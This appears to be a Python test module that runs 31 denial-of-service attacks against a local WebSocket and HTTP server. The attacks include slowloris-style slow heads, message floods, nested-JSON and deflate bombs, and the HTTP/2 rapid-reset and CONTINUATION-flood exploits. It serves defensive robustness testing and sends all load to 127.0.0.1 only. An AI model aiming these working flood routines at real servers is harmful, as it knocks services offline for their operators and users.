"""Hostile clients: each attack runs for some seconds in a process of its own.

All of them connect from `ADDRESS`, so that the server's log can name them. They need only Trio and the
packages that parse frames; nothing of the server is imported here. Load goes to 127.0.0.1 alone.
"""

from __future__ import annotations

import json
import os
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress
from itertools import cycle
from typing import Any, Final

import attrs
import trio

ADDRESS: Final = "127.0.0.66"
"""Source address of every hostile client; Linux accepts all of 127.0.0.0/8 on loopback."""

MIB: Final = 1024 * 1024
BROKEN: Final = (OSError, trio.BrokenResourceError, trio.ClosedResourceError)

NICE: Final = 5
"""Lower priority of the attacker: it shares the machine with the server and the good clients."""

CHUNK: Final = 65536


@attrs.frozen
class Target:
    """The server under attack."""

    port: int
    token: str
    """For the topic `TOPIC`."""
    topic: str


@attrs.define
class Sent:
    """Counts of one attack."""

    connections: int = 0
    refused: int = 0
    """Connections that the server did not accept, or closed."""
    data: int = 0
    """Bytes sent."""


class Hostile:
    """One attacker with its connections."""

    def __init__(self, target: Target, seconds: float) -> None:
        self.target = target
        self.sent = Sent()
        self.scope = trio.CancelScope()
        self._seconds = seconds
        self._host = f"127.0.0.1:{target.port}"

    async def connect(self) -> trio.SocketStream:
        """Return a connection from `ADDRESS`."""
        if not self.sent.connections:  # the preparation of an attack does not count
            self.scope.deadline = trio.current_time() + self._seconds
        sock = trio.socket.socket()
        await sock.bind((ADDRESS, 0))
        await sock.connect(("127.0.0.1", self.target.port))
        self.sent.connections += 1
        return trio.SocketStream(sock)

    async def send(self, stream: trio.abc.SendStream, data: bytes) -> None:
        """Send bytes and count them."""
        await stream.send_all(data)
        self.sent.data += len(data)

    async def upgraded(self, extra: str = "") -> trio.SocketStream:
        """Return an open WebSocket."""
        stream = await self.connect()
        await self.send(
            stream,
            (
                f"GET /websocket?vsn=2.0.0 HTTP/1.1\r\nHost: {self._host}\r\nUpgrade: websocket\r\n"
                "Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                f"Sec-WebSocket-Version: 13\r\n{extra}\r\n"
            ).encode(),
        )
        head = b""
        while b"\r\n\r\n" not in head:
            data = await stream.receive_some(4096)
            if not data:
                raise trio.BrokenResourceError("the upgrade was refused")
            head += data
        if not head.startswith(b"HTTP/1.1 101"):
            raise trio.BrokenResourceError(head[:60].decode())
        return stream

    async def joined(self, extra: str = "") -> trio.SocketStream:
        """Return a WebSocket that has joined the topic."""
        stream = await self.upgraded(extra)
        await self.send(
            stream, message("1", "1", self.target.topic, "phx_join", {"token": self.target.token})
        )
        await stream.receive_some(CHUNK)
        return stream

    def request(self, method: str, path: str, *headers: str) -> bytes:
        """Return the head of a request."""
        lines = [f"{method} {path} HTTP/1.1", f"Host: {self._host}", *headers, "", ""]
        return "\r\n".join(lines).encode()

    async def repeat(self, count: int, once: Callable[[], Awaitable[None]]) -> None:
        """Run ``once`` in ``count`` tasks again and again, also after the server has closed."""

        async def loop() -> None:
            while True:
                try:
                    await once()
                except* BROKEN:
                    self.sent.refused += 1
                await trio.sleep(0.01)

        async with trio.open_nursery() as nursery:
            for _ in range(count):
                nursery.start_soon(loop)


def frame(opcode: int, payload: bytes, *, fin: bool = True, compressed: bool = False) -> bytes:
    """Return a WebSocket frame of a client, masked with zeros."""
    first = opcode | (0x80 if fin else 0) | (0x40 if compressed else 0)
    size = len(payload)
    if size < 126:
        head = bytes([first, 0x80 | size])
    elif size < 65536:
        head = bytes([first, 0xFE]) + size.to_bytes(2, "big")
    else:
        head = bytes([first, 0xFF]) + size.to_bytes(8, "big")
    return head + b"\0\0\0\0" + payload


def message(*parts: object) -> bytes:
    """Return a text frame with a message of Phoenix."""
    return frame(1, json.dumps(parts).encode())


def bomb(size: int) -> bytes:
    """Return deflated bytes of about ``size`` bytes of nested JSON, for permessage-deflate."""
    deflate = zlib.compressobj(wbits=-15)
    data = b'["1","1","nope","x",[' + b"[]," * (size // 3) + b"0]]"
    return (deflate.compress(data) + deflate.flush(zlib.Z_SYNC_FLUSH)).removesuffix(b"\0\0\xff\xff")


async def drain(stream: trio.abc.ReceiveStream) -> None:
    """Read and discard everything."""
    with suppress(*BROKEN):
        while await stream.receive_some(CHUNK):
            pass


async def hold(stream: trio.SocketStream, every: float = 0.5, beat: bytes = b"") -> None:
    """Keep a connection open, with ``beat`` from time to time, until the server closes it."""
    async with trio.open_nursery() as nursery:

        async def wait_end() -> None:
            await drain(stream)
            nursery.cancel_scope.cancel()

        nursery.start_soon(wait_end)
        while True:
            await trio.sleep(every)
            if beat:
                try:
                    await stream.send_all(beat)
                except BROKEN:
                    break
        nursery.cancel_scope.cancel()


# -- WebSocket, before a join ------------------------------------------------------------------------------


async def large_unjoined(hostile: Hostile) -> None:
    """Three clients send 16 MiB of small arrays to a topic that they have not joined."""
    payload = b'["1","1","nope","x",[' + b"[]," * (16 * MIB // 3 - 10) + b"0]]"

    async def once() -> None:
        async with await hostile.upgraded() as stream:
            await hostile.send(stream, frame(1, payload))
            await drain(stream)

    await hostile.repeat(3, once)


async def unfinished_unjoined(hostile: Hostile) -> None:
    """Forty clients begin a message of 16 MiB each, do not finish it, and ping."""

    async def once() -> None:
        async with await hostile.upgraded() as stream:
            await hostile.send(stream, frame(1, b"[" * 1024, fin=False))
            for _ in range(255):
                await hostile.send(stream, frame(0, b"[" * CHUNK, fin=False))
            await hold(stream, beat=frame(9, b""))

    await hostile.repeat(40, once)


async def pings(hostile: Hostile) -> None:
    """Four clients send pings without a pause and read the pongs."""
    many = frame(9, b"x" * 100) * 500

    async def once() -> None:
        async with await hostile.upgraded() as stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, stream)
            while True:
                await hostile.send(stream, many)

    await hostile.repeat(4, once)


async def unread_pings(hostile: Hostile) -> None:
    """Twenty clients send pings without a pause and do not read the pongs."""
    many = frame(9, b"x" * 125) * 500

    async def once() -> None:
        async with await hostile.upgraded() as stream:
            while True:
                await hostile.send(stream, many)

    await hostile.repeat(20, once)


async def tiny_fragments(hostile: Hostile) -> None:
    """Four clients send messages in fragments of one byte."""
    many = frame(0, b" ", fin=False) * 2000

    async def once() -> None:
        async with await hostile.upgraded() as stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, stream)
            await hostile.send(stream, frame(1, b"[", fin=False))
            while True:
                await hostile.send(stream, many)

    await hostile.repeat(4, once)


async def malformed(hostile: Hostile) -> None:
    """Four clients send messages that are no JSON without a pause."""
    many = frame(1, b"no message of the protocol") * 200

    async def once() -> None:
        async with await hostile.upgraded() as stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, stream)
            while True:
                await hostile.send(stream, many)

    await hostile.repeat(4, once)


async def refused_joins(hostile: Hostile) -> None:
    """Four clients join without a token again and again."""
    many = b"".join(message(str(n), str(n), f"t{n}", "phx_join", {}) for n in range(200))

    async def once() -> None:
        async with await hostile.upgraded() as stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, stream)
            while True:
                await hostile.send(stream, many)

    await hostile.repeat(4, once)


async def upgrades(hostile: Hostile) -> None:
    """Twenty clients upgrade and close again and again."""

    async def once() -> None:
        stream = await hostile.upgraded()
        await trio.aclose_forcefully(stream)

    await hostile.repeat(20, once)


# -- WebSocket, after a join -------------------------------------------------------------------------------


async def large_pushes(hostile: Hostile) -> None:
    """Three members push 15 MiB of small arrays again and again."""
    topic = hostile.target.topic
    payload = f'["1","2","{topic}","x",['.encode() + b"[]," * (5 * MIB) + b"0]]"

    async def once() -> None:
        async with await hostile.joined() as stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, stream)
            while True:
                await hostile.send(stream, frame(1, payload))

    await hostile.repeat(3, once)


async def deep_pushes(hostile: Hostile) -> None:
    """Three members push a megabyte of nested arrays, and numbers of many digits."""
    topic = hostile.target.topic
    head = f'["1","2","{topic}","x",'.encode()
    deep = frame(1, head + b"[" * 500_000 + b"]" * 500_000 + b"]")
    digits = frame(1, head + b"9" * 1_000_000 + b"]")

    async def once() -> None:
        async with await hostile.joined() as stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, stream)
            while True:
                await hostile.send(stream, deep + digits)

    await hostile.repeat(3, once)


async def push_flood(hostile: Hostile) -> None:
    """Four members push small messages without a pause."""
    many = message("1", "2", hostile.target.topic, "x", {"a": 1}) * 500

    async def once() -> None:
        async with await hostile.joined() as stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, stream)
            while True:
                await hostile.send(stream, many)

    await hostile.repeat(4, once)


async def rejoins(hostile: Hostile) -> None:
    """98 members of a topic join again without a pause, with refs of 255 bytes."""
    ref = "r" * 255
    join = message(ref, ref, hostile.target.topic, "phx_join", {"token": hostile.target.token}) * 10

    async def once() -> None:
        async with await hostile.joined() as stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, stream)
            while True:
                await hostile.send(stream, join)
                await trio.sleep(0.01)

    await hostile.repeat(98, once)


async def unread(hostile: Hostile) -> None:
    """Forty members push messages that each of them receives, and do not read."""
    many = message("1", "2", hostile.target.topic, "echo", {"a": "x" * 8000}) * 4

    async def once() -> None:
        async with await hostile.joined() as stream:
            while True:
                await hostile.send(stream, many)
                await trio.sleep(0.05)

    await hostile.repeat(40, once)


# -- HTTP/1.1 ----------------------------------------------------------------------------------------------


async def slow_heads(hostile: Hostile) -> None:
    """300 clients send a request's head one byte a second."""

    async def once() -> None:
        async with await hostile.connect() as stream:
            for byte in hostile.request("GET", "/-/healthz", "X: " + "y" * 1000):
                await hostile.send(stream, bytes([byte]))
                await trio.sleep(1.0)

    await hostile.repeat(300, once)


async def unfinished_bodies(hostile: Hostile) -> None:
    """100 clients send all but the end of a body of 2 MiB to ``/token``."""

    async def once() -> None:
        async with await hostile.connect() as stream:
            head = hostile.request(
                "POST", "/token", "Content-Type: application/json", f"Content-Length: {2 * MIB}"
            )
            await hostile.send(stream, head)
            for _ in range(31):
                await hostile.send(stream, b" " * CHUNK)
            await hold(stream, beat=b" ")

    await hostile.repeat(100, once)


async def nested_bodies(hostile: Hostile) -> None:
    """Four clients send bodies of 1 MiB of nested JSON to ``/token`` again and again."""
    body = b'{"channel":' + b"[" * (MIB // 2 - 16) + b"]" * (MIB // 2 - 16) + b"}"

    async def once() -> None:
        async with await hostile.connect() as stream:
            head = hostile.request(
                "POST", "/token", "Content-Type: application/json", f"Content-Length: {len(body)}"
            )
            await hostile.send(stream, head + body)
            await stream.receive_some(CHUNK)

    await hostile.repeat(4, once)


async def dense_bodies(hostile: Hostile) -> None:
    """Four clients send bodies of 2 MiB of arrays to a plugin's route, as many as are read, or more."""
    filled, empty = b"[12345],", b"[],"
    bodies = cycle([b"[%b[]]" % (one * (2 * MIB // len(one) - 2)) for one in (filled, empty)])

    async def once() -> None:
        async with await hostile.connect() as stream:
            body = next(bodies)
            head = hostile.request(
                "POST", "/probe/values", "Content-Type: application/json", f"Content-Length: {len(body)}"
            )
            await hostile.send(stream, head + body)
            await stream.receive_some(CHUNK)

    await hostile.repeat(4, once)


async def idle_connections(hostile: Hostile) -> None:
    """1,200 connections send nothing."""

    async def once() -> None:
        async with await hostile.connect() as stream:
            await hold(stream, every=60.0)

    await hostile.repeat(1200, once)


async def pipelined(hostile: Hostile) -> None:
    """Twenty clients pipeline requests without a pause and do not read."""
    many = hostile.request("GET", "/-/healthz") * 200

    async def once() -> None:
        async with await hostile.connect() as stream:
            while True:
                await hostile.send(stream, many)

    await hostile.repeat(20, once)


async def garbage_heads(hostile: Hostile) -> None:
    """Twenty clients send heads with too many and too long headers again and again."""
    long = hostile.request("GET", "/-/healthz", "X: " + "y" * 60_000)
    many = hostile.request("GET", "/-/healthz", *(f"x{n}: y" for n in range(1000)))

    async def once() -> None:
        for data in (long, many, b"\x16\x03\x01" + b"\0" * 500, b"GET  HTTP\r\n\r\n"):
            async with await hostile.connect() as stream:
                await hostile.send(stream, data)
                await drain(stream)

    await hostile.repeat(20, once)


async def chunks_of_one(hostile: Hostile) -> None:
    """Four clients send chunked bodies in chunks of one byte."""
    many = b"1\r\nx\r\n" * 5000

    async def once() -> None:
        async with await hostile.connect() as stream:
            await hostile.send(
                stream,
                hostile.request(
                    "POST", "/token", "Content-Type: application/json", "Transfer-Encoding: chunked"
                ),
            )
            while True:
                await hostile.send(stream, many)

    await hostile.repeat(4, once)


# -- compression -------------------------------------------------------------------------------------------

DEFLATE: Final = "Sec-WebSocket-Extensions: permessage-deflate\r\n"


async def bombs_unjoined(hostile: Hostile) -> None:
    """Five clients send frames of 16 KB that inflate to 16 MiB, before a join."""
    data = frame(1, bomb(16 * MIB - 64), compressed=True)

    async def once() -> None:
        async with await hostile.upgraded(DEFLATE) as stream:
            await hostile.send(stream, data)
            await drain(stream)

    await hostile.repeat(5, once)


async def bombs_joined(hostile: Hostile) -> None:
    """Five members push frames of 16 KB that inflate to 15 MiB."""
    deflate = zlib.compressobj(wbits=-15)
    plain = f'["1","2","{hostile.target.topic}","x",['.encode() + b"[]," * (5 * MIB) + b"0]]"
    data = (deflate.compress(plain) + deflate.flush(zlib.Z_SYNC_FLUSH)).removesuffix(b"\0\0\xff\xff")

    async def once() -> None:
        async with await hostile.joined(DEFLATE) as stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, stream)
            while True:
                await hostile.send(stream, frame(1, data, compressed=True))

    await hostile.repeat(5, once)


async def broken_deflate(hostile: Hostile) -> None:
    """Ten clients send compressed frames that cannot be inflated."""

    async def once() -> None:
        async with await hostile.upgraded(DEFLATE) as stream:
            await hostile.send(stream, frame(1, b"\xff" * 1000, compressed=True))
            await drain(stream)

    await hostile.repeat(10, once)


# -- HTTP/2 ------------------------------------------------------------------------------------------------


def _h2_head(host: str, path: str = "/-/healthz") -> bytes:
    from hpack import Encoder

    fields = [(":method", "GET"), (":scheme", "http"), (":authority", host), (":path", path)]
    return bytes(Encoder().encode(fields, huffman=False))


async def _h2(hostile: Hostile, *settings: tuple[int, int]) -> trio.SocketStream:
    from hyperframe.frame import SettingsFrame

    stream = await hostile.connect()
    frame_ = SettingsFrame(0, settings=dict(settings))
    await hostile.send(stream, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame_.serialize())
    return stream


async def rapid_resets(hostile: Hostile) -> None:
    """Four clients open streams and reset them at once (CVE-2023-44487)."""
    from hyperframe.frame import HeadersFrame, RstStreamFrame

    block = _h2_head("127.0.0.1")

    async def once() -> None:
        async with await _h2(hostile) as stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, stream)
            number = 1
            while number < 1_000_000:
                data = bytearray()
                for _ in range(100):
                    data += HeadersFrame(number, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
                    data += RstStreamFrame(number, error_code=8).serialize()
                    number += 2
                await hostile.send(stream, bytes(data))

    await hostile.repeat(4, once)


async def _h2_flood(hostile: Hostile, data: bytes, *, read: bool = True) -> None:
    async def once() -> None:
        async with await _h2(hostile) as stream, trio.open_nursery() as nursery:
            if read:
                nursery.start_soon(drain, stream)
            while True:
                await hostile.send(stream, data)

    await hostile.repeat(4, once)


async def window_updates(hostile: Hostile) -> None:
    """Four clients send WINDOW_UPDATE frames without a pause."""
    from hyperframe.frame import WindowUpdateFrame

    await _h2_flood(hostile, WindowUpdateFrame(0, window_increment=1).serialize() * 1000)


async def priorities(hostile: Hostile) -> None:
    """Four clients send PRIORITY frames without a pause."""
    from hyperframe.frame import PriorityFrame

    await _h2_flood(hostile, b"".join(PriorityFrame(n, depends_on=0).serialize() for n in range(1, 2001, 2)))


async def h2_settings(hostile: Hostile) -> None:
    """Four clients send SETTINGS frames without a pause and do not read the answers."""
    from hyperframe.frame import SettingsFrame

    await _h2_flood(hostile, SettingsFrame(0, settings={4: 65535}).serialize() * 1000, read=False)


async def h2_pings(hostile: Hostile) -> None:
    """Four clients send PING frames without a pause and do not read the answers."""
    from hyperframe.frame import PingFrame

    await _h2_flood(hostile, PingFrame(0, opaque_data=b"01234567").serialize() * 1000, read=False)


async def continuations(hostile: Hostile) -> None:
    """Four clients send headers without an end (CVE-2024-27316)."""
    from hyperframe.frame import ContinuationFrame, HeadersFrame

    more = ContinuationFrame(1, b"\x00\x01a\x01b" * 2000).serialize()

    async def once() -> None:
        async with await _h2(hostile) as stream, trio.open_nursery() as nursery:
            nursery.start_soon(drain, stream)
            await hostile.send(stream, HeadersFrame(1, _h2_head("127.0.0.1")).serialize())
            while True:
                await hostile.send(stream, more)

    await hostile.repeat(4, once)


async def zero_windows(hostile: Hostile) -> None:
    """Ten clients open 100 streams each with a window of 0, for a page that they never read."""
    from hyperframe.frame import HeadersFrame

    block = _h2_head("127.0.0.1", "/openapi.json")

    async def once() -> None:
        async with await _h2(hostile, (4, 0)) as stream:
            for number in range(1, 200, 2):
                await hostile.send(
                    stream, HeadersFrame(number, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
                )
            await hold(stream, every=60.0)

    await hostile.repeat(10, once)


ATTACKS: Final[dict[str, Callable[[Hostile], Awaitable[None]]]] = {
    one.__name__: one
    for one in (
        large_unjoined,
        unfinished_unjoined,
        pings,
        unread_pings,
        tiny_fragments,
        malformed,
        refused_joins,
        upgrades,
        large_pushes,
        deep_pushes,
        push_flood,
        rejoins,
        unread,
        slow_heads,
        unfinished_bodies,
        nested_bodies,
        dense_bodies,
        idle_connections,
        pipelined,
        garbage_heads,
        chunks_of_one,
        bombs_unjoined,
        bombs_joined,
        broken_deflate,
        rapid_resets,
        window_updates,
        priorities,
        h2_settings,
        h2_pings,
        continuations,
        zero_windows,
    )
}
"""Every attack, by name."""


def attack(name: str, target: Target, seconds: float) -> dict[str, Any]:
    """Run one attack for some seconds, and return its counts; called in a process of its own."""
    os.nice(NICE)
    hostile = Hostile(target, seconds)

    async def main() -> None:
        with hostile.scope:
            await ATTACKS[name](hostile)

    trio.run(main)
    return attrs.asdict(hostile.sent)
